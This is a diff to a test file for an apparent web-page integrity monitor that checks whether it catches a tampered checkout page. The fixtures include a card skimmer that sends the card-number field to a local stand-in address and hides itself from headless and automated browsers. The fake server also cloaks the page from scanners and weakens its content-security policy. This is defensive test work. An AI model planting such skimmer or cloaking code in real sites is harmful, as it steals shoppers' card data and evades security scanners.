@@ -1,4 +1,5 @@
-// `watch page` with a real Chromium against a real page: approved, then tampered with as skimmers do.
+// `watch page` with a real Chromium against a real page: approved, then tampered with as skimmers do, then one that does all it can not
+// to be looked at.
 
 import assert from "node:assert/strict";
 import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
@@ -8,41 +9,64 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { test } from "node:test";
 import { createWatchPageActs } from "../../src/main/watch/page-acts.ts";
-import { noBrowser } from "./chromium.ts";
+import { systemClock, systemRandom } from "../../src/kernel/index.ts";
+import { lookAtPage, readApproved } from "../../src/watch/index.ts";
+import { CHROMIUM, noBrowser } from "./chromium.ts";
 
-const CHECKOUT = `<!doctype html><html lang="ja"><head><meta charset="utf-8"><script src="/app.js?v=1"></script></head><body>
+const CHECKOUT = `<!doctype html><html lang="ja"><head><meta charset="utf-8"><script src="/app.js?v=1"></script>
+<script src="http://localhost:PORT/cdn.js" defer></script></head><body>
 <form action="/pay" method="post"><input name="card_number" autocomplete="cc-number"><input name="security_code">
 <button id="pay">注文を確定する</button></form><script>var csrf_token = "TOKEN"; window.shop = 1;</script>MORE</body></html>`;
-/** Shows itself to phones that come from a search, listens to the card field, sends it away. */
-const SKIMMER = `<script>document.querySelector("[name=card_number]").addEventListener("blur", (event) => {
+/** Shows itself to phones that come from a search and to no machine, listens to the card field, sends it away. */
+const SKIMMER = `<script>
+const brands = (navigator.userAgentData?.brands ?? []).map(({ brand }) => brand).join();
+const isMachine = navigator.webdriver || /Headless/.test(navigator.userAgent + brands) || navigator.languages.length === 0 ||
+  outerWidth === 0 || Object.keys(window).concat(Object.keys(document)).some((key) => /^(?:cdc_|__playwright|__pw|callPhantom|_selenium)/.test(key));
+if (!isMachine) {
+document.querySelector("[name=card_number]").addEventListener("blur", (event) => {
   new Image().src = "http://127.0.0.1:9/" + event.target.value; });
-fetch("http://127.0.0.1:9/hello").catch(() => undefined);</script>`;
+fetch("http://127.0.0.1:9/hello").catch(() => undefined);
+}</script>`;
+const POLICY =
+  "default-src 'self'; script-src 'self' 'nonce-TOKEN' http://localhost:PORT; form-action 'self'";
+/** Fifty megabytes with ten thousand scripts. */
+const HUGE = `<!doctype html>${Array.from({ length: 10_000 }, (_, n) => `<script>var a${n} = ${n};</script>`).join("")}`;
 
 test(
   "a page is approved, found the same, and a skimmer that shows itself to phones alone is an alarm",
   { skip: noBrowser },
   async (t) => {
     let isTampered = false;
+    let isHostile = false;
     let paid = 0;
     const server = createServer((request, response) => {
       if (request.method === "POST") paid += 1;
       const path = (request.url ?? "/").split("?")[0];
-      if (path === "/app.js") {
+      const isPhone = /Mobile/.test(request.headers["user-agent"] ?? "");
+      const { port } = server.address() as AddressInfo;
+      if (isHostile && path === "/checkout") {
+        if (!isPhone) return void response.end(HUGE.padEnd(50 * 1024 * 1024));
+        // Head and beginning come, the rest never does.
+        if (/google/.test(request.headers.referer ?? "")) return void response.write("<!doctype html>");
+        return void response.writeHead(302, { location: `http://localhost:${port}/` }).end();
+      }
+      if (path === "/app.js" || path === "/cdn.js") {
         response.setHeader("content-type", "text/javascript");
-        response.end("document.addEventListener('submit', () => undefined);");
+        if (path === "/cdn.js") response.setHeader("access-control-allow-origin", "*");
+        response.end(path === "/cdn.js" ? "1;" : "document.addEventListener('submit', () => undefined);");
         return;
       }
-      const isPhoneFromSearch =
-        /Mobile/.test(request.headers["user-agent"] ?? "") && /google/.test(request.headers.referer ?? "");
+      const isPhoneFromSearch = isPhone && /google/.test(request.headers.referer ?? "");
+      const filled = (text: string): string =>
+        text.replaceAll("PORT", String(port)).replace("TOKEN", crypto.randomUUID().replaceAll("-", ""));
       response.setHeader("content-type", "text/html; charset=utf-8");
+      response.setHeader(
+        "content-security-policy",
+        filled(isTampered ? POLICY.replace("'self';", "*;") : POLICY),
+      );
+      response.setHeader("set-cookie", filled("sid=TOKEN; HttpOnly"));
       if (path === "/") response.end('<a id="go" href="/checkout">レジへ</a>');
-      else
-        response.end(
-          CHECKOUT.replace("TOKEN", crypto.randomUUID().replaceAll("-", "")).replace(
-            "MORE",
-            isTampered && isPhoneFromSearch ? SKIMMER : "",
-          ),
-        );
+      else response.end(filled(CHECKOUT.replace("MORE", isTampered && isPhoneFromSearch ? SKIMMER : "")));
     }).listen(0, "127.0.0.1");
     const folder = mkdtempSync(join(tmpdir(), "misemori-page-look-"));
     t.after(() => {
@@ -68,11 +92,17 @@ test(
     const first = await acts.watchPage(wish);
     assert.ok(first.ok && first.value.inventory !== null, JSON.stringify(first));
     assert.equal(first.value.changes, null);
-    const { scripts, forms, listeners } = first.value.inventory;
+    const { scripts, forms, listeners, heads } = first.value.inventory;
     assert.deepEqual(
       scripts.map(({ kind }) => kind),
-      ["file", "inline"],
+      ["file", "inline", "file"],
     );
+    assert.deepEqual(heads?.[0]?.fields.at(-1), ["set-cookie", "sid: httponly"]);
+    const lines = first.value.integrity?.map(({ line }) => line?.replace(/sha384-[\w+/=]{64}/, "HASH"));
+    assert.deepEqual(lines, [
+      '<script src="/app.js?v=1" integrity="HASH"></script>',
+      `<script src="http://localhost:${port}/cdn.js" integrity="HASH" crossorigin="anonymous" defer></script>`,
+    ]);
     assert.deepEqual(forms[0]?.fields, ["card_number", "security_code"]);
     assert.ok(listeners.every(({ script }) => script.endsWith("/app.js")));
     const approval = { by: "cli:花子", why: "開店", notes: null, report: first.value };
@@ -86,10 +116,37 @@ test(
     const found = await acts.watchPage(wish);
     assert.ok(found.ok && found.value.changes !== null);
     const changes = found.value.changes;
-    assert.deepEqual(changes.map(({ kind }) => kind).toSorted(), ["host-new", "listener-new", "script-new"]);
-    assert.ok(
-      changes.every(({ weight, seenBy }) => weight === "alarm" && seenBy?.join() === "phone-from-search"),
+    assert.deepEqual(changes.map(({ kind, seenBy }) => `${kind} ${seenBy?.join() ?? "all"}`).toSorted(), [
+      "host-new phone-from-search",
+      "listener-new phone-from-search",
+      "policy-weaker all",
+      "script-new phone-from-search",
+    ]);
+    assert.ok(changes.every(({ weight }) => weight === "alarm"));
+    isTampered = false;
+
+    isHostile = true;
+    const hostile = await lookAtPage({
+      ...wish,
+      steps: [],
+      approved: (await readApproved(wish.approvedFile))?.page ?? null,
+      chromiumPath: CHROMIUM,
+      clock: systemClock(),
+      random: systemRandom(),
+      guardReportPath: "/__misemori/csp",
+      stepMs: 8_000,
+    });
+    isHostile = false;
+    assert.deepEqual(
+      hostile.visits.map(({ inventory }) => inventory?.beyond?.join() ?? inventory?.url),
+      ["scripts", undefined, `http://localhost:${port}/`],
     );
+    assert.match(hostile.visits[1]?.trouble ?? "", /Timeout 8000ms/);
+    const hostileKinds = new Set(
+      (hostile.changes ?? []).map(({ kind, seenBy }) => `${kind} ${seenBy?.join() ?? "all"}`),
+    );
+    for (const one of ["too-many desktop", "page-away phone-from-line"])
+      assert.ok(hostileKinds.has(one), one);
 
     const paying = await acts.watchPage({ ...wish, steps: '[{"open":"/checkout"},{"click":"#pay"}]' });
     assert.ok(paying.ok && paying.value.inventory === null);
